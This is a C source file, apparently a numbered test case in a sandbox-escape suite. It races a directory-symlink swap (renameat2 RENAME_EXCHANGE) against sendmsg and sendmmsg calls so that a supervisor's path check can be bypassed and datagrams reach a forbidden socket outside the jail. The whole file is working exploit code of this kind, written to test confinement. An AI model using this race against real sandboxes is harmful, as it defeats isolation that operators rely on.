/* e0208-sendmsg-socket-swap - e0207's directory-component swap, on the
 * msg_name of sendmsg() and sendmmsg() on a datagram socket.
 *
 * Attack: "e0208-d" is a real directory holding a datagram socket of the
 * program's own named like the forbidden one, "e0208-s" a symbolic link
 * to the forbidden socket's directory (outside the jail, a listener that
 * counts datagrams); a thread swaps the two names (renameat2
 * RENAME_EXCHANGE) while the main thread sends to "e0208-d/NAME", by
 * sendmsg and sendmmsg in turn.  The supervisor checks the path while
 * e0208-d is the directory; the kernel may walk it when it is the link.
 * A msghdr is one more pointer away than connect's address, so a
 * supervisor that pins connect's may still pass msg_name on as a path.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components); janus team (sendmsg's msg_name, doc/races.md section 3).
 * Usage: e0208-sendmsg-socket-swap FORBIDDEN-SOCKET */
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static volatile int stop;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "e0208-d", AT_FDCWD, "e0208-s", RENAME_EXCHANGE);
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0208-sendmsg-socket-swap FORBIDDEN-SOCKET");
	char dir[PATH_MAX], base[PATH_MAX], own[PATH_MAX * 2];
	snprintf(dir, sizeof dir, "%s", argv[1]);
	snprintf(base, sizeof base, "%s", argv[1]);
	snprintf(own, sizeof own, "e0208-d/%s", basename(base));
	mkdir("e0208-d", 0755);
	unlink("e0208-s");
	unlink(own);
	if (symlink(dirname(dir), "e0208-s") < 0)
		esc_die("symlink");
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, own);
	int mine = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (mine < 0 || bind(mine, (struct sockaddr *)&sa, len) < 0)
		esc_die("bind our own socket");
	int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		esc_die("socket");
	struct iovec iov = { (void *)"x", 1 };
	struct mmsghdr mm = { .msg_hdr = { .msg_name = &sa, .msg_namelen = len,
					   .msg_iov = &iov, .msg_iovlen = 1 } };
	pthread_t ts;
	if (pthread_create(&ts, NULL, swapper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long sent = 0, refused = 0;
	int last = 0;
	char drain[16];
	esc_race_init(&r);
	while (esc_race_go(&r)) {
		int ok = r.tries % 2 ? sendmmsg(s, &mm, 1, MSG_DONTWAIT) == 1
				     : sendmsg(s, &mm.msg_hdr, MSG_DONTWAIT) >= 0;
		if (ok) {
			sent++;
		} else {
			refused++;
			last = errno;
		}
		while (recv(mine, drain, sizeof drain, MSG_DONTWAIT) > 0)
			;
	}
	printf("sendmsg race: %ld tries, %ld sent, %ld refused%s%s\n", r.tries, sent, refused,
	       refused ? ", last " : "", refused ? esc_errno_name(last) : "");
	stop = 1;
	pthread_join(ts, NULL);
	return 0;
}
